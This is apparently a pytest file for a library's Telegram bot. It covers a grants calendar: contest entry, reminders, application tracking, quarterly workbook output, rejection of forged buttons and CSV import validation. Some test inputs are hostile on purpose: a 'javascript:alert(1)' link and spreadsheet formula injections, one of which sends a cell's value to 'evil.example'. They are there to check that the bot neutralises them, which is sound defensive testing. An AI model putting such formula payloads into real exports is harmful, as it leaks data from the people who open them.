"""The grants calendar (#27): staff add a contest in the bot; a reader who follows its topic
gets the 14-day reminder once (not at night, not twice), presses «Готовлю заявку», names the
organisation and gets an expertise consultation tied to the contest; staff mark the
application submitted, then supported with the sum; the quarter's workbook shows it on
«Показатели» and «Гранты»; forged buttons change nothing; /forget unlinks the person and
keeps the organisation's counts; a contests file with bad rows loads the rest and tells the
bad ones by row number.
"""

from __future__ import annotations

from datetime import UTC, datetime, time, timedelta
from io import BytesIO
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from bot.cli import main
from bot.kernel.config import Config
from bot.kernel.i18n import Locales
from bot.transports.telegram import create_bot
from broadcasts.grant_reminders import sweep_grant_reminders
from broadcasts.views.grant_view import GrantAction, cb, topic_cb
from handlers.staff_grants import STATUSES, StaffGrantAction, scb
from storage import erasure, people
from storage.consultations.models import ConsultationRequest
from storage.db import Database
from storage.grants import applications, contests
from storage.grants.models import Application, Status
from storage.reports import document
from storage.reports.offline import open_quarter
from tests.conftest import RunningBot
from tests.harness import Person, drain_outbox

ANNA, BORIS = 8101, 8102
CONTEST = "Конкурс «Культурная мозаика» <малых> городов"


async def deliver(bot: RunningBot) -> None:
    await drain_outbox(
        bot.db, create_bot(bot.server.token, api_server=bot.server.base_url), "telegram"
    )


async def consented(bot: RunningBot, user_id: int, name: str) -> Person:
    reader = bot.person(user_id, name)
    await reader.send("/start")
    await reader.click("Согласен")
    return reader


def offered(buttons: list[str], label: str) -> bool:
    return any(label in shown for shown in buttons)


def local(config: Config, moment: datetime) -> str:
    return f"{moment.astimezone(config.library.zone):%d.%m.%Y %H:%M}"


async def staff_adds_a_contest(bot: RunningBot, deadline: datetime) -> Person:
    admin = bot.admin()
    await admin.send("/start")
    await admin.send("🛠 Для сотрудников")
    reply = await admin.click("Гранты")
    assert offered(reply.buttons, "Добавить конкурс")
    reply = await admin.click("Добавить конкурс")
    assert "Название конкурса?" in reply.text
    reply = await admin.send(CONTEST)
    assert offered(reply.buttons, "Фонд президентских грантов")
    reply = await admin.click("Фонд президентских грантов")
    assert "Срок подачи" in reply.text
    reply = await admin.send("31.02.2027")
    assert "Не подходит: нет такой даты" in reply.text
    reply = await admin.send(local(bot.config, deadline))
    assert "Ссылка" in reply.text
    reply = await admin.send("javascript:alert(1)")
    assert "http:// или https://" in reply.text
    await admin.send("https://example.org/mozaika")
    reply = await admin.click("Пропустить")  # the opening
    assert "итоги" in reply.text
    await admin.send(f"{deadline + timedelta(days=30):%d.%m.%Y}")
    reply = await admin.send("от 100 000 до 1,5 млн")
    assert "Кто может подать" in reply.text
    await admin.click("Пропустить")
    reply = await admin.send("Культура, молодёжь")
    assert "сохранён" in reply.text
    assert "&lt;малых&gt;" in reply.text  # staff's text is shown, never parsed as markup
    assert "от 100\u00a0000 до 1\u00a0500\u00a0000 ₽" in reply.text
    return admin


async def test_a_contest_from_staff_to_the_workbook(bot: RunningBot) -> None:
    now = datetime.now(UTC)
    deadline = (now + timedelta(days=12)).replace(second=0, microsecond=0)
    admin = await staff_adds_a_contest(bot, deadline)
    [contest] = await contests.listed(bot.db, now)
    assert contest.draft.tags == ("культура", "молодёжь")
    assert contest.draft.link == "https://example.org/mozaika"
    assert contest.draft.deadline == deadline
    assert contest.draft.zone == "Europe/Moscow"

    anna = await consented(bot, ANNA, "Анна")
    reply = await anna.send("гранты")  # typed: the calendar, not the catalogue
    assert "Гранты и конкурсы" in reply.text
    assert offered(reply.buttons, "Открыты сейчас (1)")
    reply = await anna.click("По темам")
    assert reply.buttons[:2] == ["культура", "🔕"]
    reply = await anna.press(topic_cb(GrantAction.FOLLOW, "культура"))  # 🔕 beside it
    assert "Напомним о сроках: культура" in reply.alerts

    # The 14-day reminder: none during the quiet hours, then once however often the sweep runs.
    zone = bot.config.library.zone
    today = datetime.now(zone).date()
    night = datetime.combine(today, time(23, 30), zone).astimezone(UTC)
    noon = datetime.combine(today, time(12, 0), zone).astimezone(UTC)
    locales = Locales()
    assert await sweep_grant_reminders(bot.db, locales, bot.config, now=night) == 0
    assert await sweep_grant_reminders(bot.db, locales, bot.config, now=noon) == 1
    assert await sweep_grant_reminders(bot.db, locales, bot.config, now=noon) == 0
    await deliver(bot)
    [notice] = [c for c in bot.server.calls if c.chat_id == ANNA and "Меньше двух недель" in c.text]
    assert CONTEST.replace("<", "&lt;").replace(">", "&gt;") in notice.text
    anna.history.append(notice)

    reply = await anna.click("Открыть конкурс")
    assert "⏰ Срок подачи" in reply.text
    [link] = [b for c in reply.messages for b in c.buttons() if "url" in b]
    assert link["url"] == "https://example.org/mozaika"
    reply = await anna.click("Готовлю заявку")
    assert "Как называется ваша организация?" in reply.text
    reply = await anna.send("АНО «Добрые руки»")
    assert "Записали: АНО «Добрые руки» готовит заявку" in reply.text
    reply = await anna.click("нужна экспертиза")
    assert "Обращение №" in reply.text
    wish = (deadline - timedelta(days=7)).astimezone(zone)
    assert f"до {wish:%d.%m.%Y}" in reply.text

    [application] = await applications.of_person(
        bot.db,
        (await people.find(bot.db, "telegram", str(ANNA))).id,  # type: ignore[union-attr]
    )
    assert (application.organisation, application.status) == ("АНО «Добрые руки»", Status.PREPARING)
    async with bot.db.transaction() as session:
        request = await session.get(ConsultationRequest, application.request_id)
        assert request is not None
        assert request.expertise
        assert CONTEST in request.question
        assert request.organisation == "АНО «Добрые руки»"
        assert request.contact_time == f"до {wish:%d.%m.%Y}"

    # Forged buttons: someone else's application, a reader pressing a staff button.
    boris = await consented(bot, BORIS, "Борис")
    reply = await boris.press(cb(GrantAction.EXPERT, application.id))
    assert "Эта кнопка устарела." in reply.alerts
    await boris.press(cb(GrantAction.RESULT, application.id, 1))
    await boris.press(scb(StaffGrantAction.MOVE, application.id, STATUSES.index(Status.SUPPORTED)))
    await anna.press(scb(StaffGrantAction.MOVE, application.id, STATUSES.index(Status.SUBMITTED)))
    unchanged = await applications.get(bot.db, application.id)
    assert unchanged == application
    async with bot.db.transaction() as session:
        assert len((await session.scalars(select(ConsultationRequest))).all()) == 1

    # Staff: submitted in two taps, the sum requested; later supported, with the sum granted.
    await admin.send("🛠 Для сотрудников")
    await admin.click("Гранты")
    reply = await admin.click("Заявки")
    assert f"№ {application.id} · АНО «Добрые руки»" in reply.buttons[0]
    await admin.click(f"№ {application.id}")
    reply = await admin.click("подана")
    assert "Статус: подана" in reply.alerts
    await admin.click("Запрошено")
    reply = await admin.send("800 000")
    assert "Запрошено: 800\u00a0000 ₽" in reply.text
    reply = await admin.click("поддержана")
    assert "Сколько получено" in reply.text
    reply = await admin.send("много")
    assert "цифрами" in reply.text or "не сумма" in reply.text
    reply = await admin.send("450 000")
    assert "Получено: 450\u00a0000 ₽" in reply.text
    done = await applications.get(bot.db, application.id)
    assert done is not None
    assert (done.status, done.requested, done.granted) == (Status.SUPPORTED, 800_000, 450_000)

    # The member is not asked for a result staff have recorded.
    after_results = noon + timedelta(days=50)
    assert await sweep_grant_reminders(bot.db, locales, bot.config, now=after_results) == 0

    sheets = await quarter_sheets(bot.db, bot.config)
    summary = {r[0]: r[1] for r in sheets["Показатели"]}
    assert summary["Проектных заявок подготовлено с помощью РЦ"] == 1
    assert summary["Заявок на гранты подано"] == 1
    assert summary["Заявок поддержано (получили финансирование)"] == 1
    assert summary["Запрошено по поданным заявкам, руб."] == 800_000
    assert summary["Получено грантов, руб."] == 450_000
    [row] = sheets["Гранты"]
    assert row[:5] == [
        CONTEST,
        "Фонд президентских грантов",
        "АНО «Добрые руки»",
        "да",
        "поддержана",
    ]
    assert row[8:10] == [800_000, 450_000]

    # /forget: the organisation's application and counts stay, the person's link goes.
    anna_id = (await people.find(bot.db, "telegram", str(ANNA))).id  # type: ignore[union-attr]
    await erasure.erase(bot.db, anna_id)
    async with bot.db.transaction() as session:
        [kept] = (await session.scalars(select(Application))).all()
        assert kept.person_id is None
        assert kept.organisation == "АНО «Добрые руки»"
    summary = {r[0]: r[1] for r in (await quarter_sheets(bot.db, bot.config))["Показатели"]}
    assert summary["Получено грантов, руб."] == 450_000


async def test_a_member_tells_the_result_once_after_the_results_date(bot: RunningBot) -> None:
    now = datetime.now(UTC)
    draft = contests.ContestDraft(
        name="Городской конкурс инициативных проектов",
        deadline=now + timedelta(days=2),
        zone="Europe/Moscow",
        results_at=now + timedelta(days=20),
    )
    contest = await contests.add(bot.db, draft, by="test")
    anna = await consented(bot, ANNA, "Анна")
    anna_id = (await people.find(bot.db, "telegram", str(ANNA))).id  # type: ignore[union-attr]
    await people.remember_details(
        bot.db, anna_id, name="Анна", organisation="ТОС «Северный»", contact=None
    )
    reply = await anna.press(cb(GrantAction.CARD, contest.id))
    reply = await anna.click("Напомнить о сроке")  # this contest, whatever its topics
    assert "Напомним о сроке подачи за 14 и за 3 дня." in reply.alerts
    assert offered(reply.buttons, "Не напоминать о сроке")
    zone = bot.config.library.zone
    noon = datetime.combine(datetime.now(zone).date(), time(12), zone).astimezone(UTC)
    assert await sweep_grant_reminders(bot.db, Locales(), bot.config, now=noon) == 1
    await deliver(bot)
    assert [c for c in bot.server.calls if c.chat_id == ANNA and "Осталось три дня" in c.text]
    reply = await anna.click("Готовлю заявку")  # the organisation she gave before: no question
    assert "Записали: ТОС «Северный» готовит заявку" in reply.text

    later = datetime.combine(
        (now + timedelta(days=21)).astimezone(bot.config.library.zone).date(),
        time(12),
        bot.config.library.zone,
    ).astimezone(UTC)
    locales = Locales()
    # After the deadline, after the results date: only the question, once.
    assert await sweep_grant_reminders(bot.db, locales, bot.config, now=later) == 1
    assert await sweep_grant_reminders(bot.db, locales, bot.config, now=later) == 0
    await deliver(bot)
    [question] = [c for c in bot.server.calls if c.chat_id == ANNA and "Итоги конкурса" in c.text]
    anna.history.append(question)
    reply = await anna.click("Поддержана")
    assert "Спасибо" in reply.text
    [application] = await applications.of_person(bot.db, anna_id)
    assert application.status is Status.SUPPORTED


async def quarter_sheets(db: Database, config: Config) -> dict[str, list[list[object]]]:
    now = datetime.now(UTC)
    period = open_quarter(now, config.library.zone)
    report = await document.prepare(db, config, period, now=now + timedelta(seconds=1))
    book = load_workbook(BytesIO(document.to_xlsx(report)))
    return {
        name: [[c.value for c in row] for row in book[name].iter_rows(min_row=3)]
        for name in book.sheetnames
    }


@pytest.fixture
def config_file(tmp_path: Path) -> Path:
    config = tmp_path / "config.toml"
    config.write_text("[library]\nname = 'Тест'\ntimezone = 'Europe/Moscow'\n", encoding="utf-8")
    assert main(["db", "upgrade", "--config", str(config)]) == 0
    return config


def test_libbot_grants_import_tells_bad_rows_by_number(
    config_file: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    example = Path(__file__).parents[1] / "grants.example.csv"
    lines = example.read_text(encoding="utf-8").splitlines()
    bad = [
        ";Фонд;https://example.org;;01.05.2027;;;;;",  # row 7: no name
        "Конкурс без срока;Фонд;https://example.org;;;;;;;",  # row 8
        "Конкурс со ссылкой;Фонд;javascript:alert(1);;01.05.2027;;;;;",  # row 9
        '=HYPERLINK("http://x");Фонд;;;01.05.2027;;;до 500 000;;',  # row 10: kept as text
        "Конкурс наоборот;Фонд;;;01.05.2027;;;от 900 000 до 100 000;;",  # row 11
    ]
    path = tmp_path / "grants.csv"
    path.write_text("\n".join([*lines, *bad]) + "\n", encoding="utf-8")
    config = ["--config", str(config_file)]
    assert main(["grants", "import", str(path), *config]) == 0
    out = capsys.readouterr().out.splitlines()
    assert out[0] == "grants.csv: загружено конкурсов 6, уже были 0, ошибочных строк 4"
    assert out[2:] == [
        "  строка 7: нет названия конкурса",
        "  строка 8: нет срока подачи",
        "  строка 9: ссылка должна начинаться с http:// или https://",
        "  строка 11: меньшая сумма больше большей",
    ]
    assert main(["grants", "import", str(path), *config]) == 0  # again: nothing twice
    assert "загружено конкурсов 0, уже были 6" in capsys.readouterr().out
    assert main(["grants", "import", str(tmp_path / "nope.csv"), *config]) == 2


def test_the_demo_seeds_the_example_contests() -> None:
    root = Path(__file__).parents[1]
    demo = root / "bot" / "demo" / "grants.example.csv"
    assert demo.read_bytes() == (root / "grants.example.csv").read_bytes()


async def test_an_organisation_typed_as_a_formula_stays_text_in_the_workbook(
    sqlite_db: Database, config: Config
) -> None:
    now = datetime.now(UTC)
    contest = await contests.add(
        sqlite_db,
        contests.ContestDraft(name="=1+1", deadline=now + timedelta(days=9), zone="Europe/Moscow"),
        by="test",
    )
    member = await people.resolve(sqlite_db, "telegram", "8103", language_hint="ru")
    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"НКО")'
    application, new = await applications.prepare(sqlite_db, contest.id, member.id, hostile)
    assert new
    assert application.organisation == hostile  # kept as typed
    period = open_quarter(now, config.library.zone)
    report = await document.prepare(sqlite_db, config, period, now=now + timedelta(seconds=1))
    book = load_workbook(BytesIO(document.to_xlsx(report)))
    row = next(book["Гранты"].iter_rows(min_row=3))
    assert (row[0].value, row[2].value) == ("=1+1", hostile)
    assert (row[0].data_type, row[2].data_type) == ("s", "s")
    csv_text = document.to_csv_files(report)["Гранты.csv"].decode("utf-8-sig")
    assert "'=HYPERLINK" in csv_text


def test_sums_and_dates_as_staff_type_them() -> None:
    assert contests.read_amounts("от 100 000 до 3 000 000") == (100_000, 3_000_000)
    assert contests.read_amounts("50 тыс – 1,5 млн") == (50_000, 1_500_000)
    assert contests.read_amounts("до 500 000 ₽") == (None, 500_000)
    assert contests.read_amounts("от 20000") == (20_000, None)
    assert contests.read_amount("450 000,00") == 450_000
    with pytest.raises(contests.Invalid):
        contests.read_amounts("много")
    moment = contests.read_moment("31.03.2027", "Asia/Yekaterinburg", end_of_day=True)
    assert moment == datetime(2027, 3, 31, 18, 59, tzinfo=UTC)
    with pytest.raises(contests.Invalid):
        contests.read_link("ftp://example.org/x")
    assert contests.read_tags("Культура; #молодёжь, культура") == ("культура", "молодёжь")


async def test_an_nko_member_finds_the_grants_calendar_among_the_consultation_topics(
    bot: RunningBot,
) -> None:
    """«💬 Консультация» is where NKO members look for help with grants: the calendar is
    one tap from there, and back to the menu from it."""
    olga = await consented(bot, 9701, "Ольга")
    reply = await olga.send("💬 Консультация")
    assert "🏆 Гранты и конкурсы" in reply.buttons
    reply = await olga.click("🏆 Гранты и конкурсы")
    assert "Гранты и конкурсы" in reply.text
    assert any("В меню" in label for label in reply.buttons)
